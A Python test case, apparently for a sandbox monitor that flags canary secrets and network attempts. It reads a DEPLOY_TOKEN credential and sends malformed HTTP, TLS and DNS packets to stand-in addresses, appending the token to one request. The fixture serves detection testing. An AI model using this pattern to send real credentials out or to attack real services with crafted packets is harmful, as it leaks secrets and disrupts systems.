"""Sends the sink what a reader might choke on, and a key with it."""

# group: secrets
# status: passed
# limits: {observe: network}
# network: true
# rules: [canary-touched, network-attempt]
# canaries: [the fake GitHub token (to the network)]

import os
import socket

TOKEN = os.environ["DEPLOY_TOKEN"].encode()
HEAD = b"POST / HTTP/1.1\r\nContent-Length: "
SAID = [
    HEAD + b"\xb2\r\n\r\n",
    HEAD + b"9" * 5000 + b"\r\n\r\n",
    b"\r\n" * 8000,
    b"\x16\x03\x01\xff\xff\x01" + b"\xff" * 200,
    b"\x16\x03\x01\x00\x06\x01" + b"\0" * 60,
    HEAD + b"\xb2\r\n\r\n" + TOKEN,
]
for port, said in enumerate(SAID, 80):
    try:
        with socket.create_connection(("192.0.2.1", port), 3) as connection:
            connection.sendall(said)
    except OSError:
        pass
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as lookup:
    for said in (b"", b"\0" * 12 + b"\xc0\x0c" * 200, b"\0" * 12 + b"\x3f" * 4000, b"\xff" * 20):
        lookup.sendto(said, ("192.0.2.2", 53))
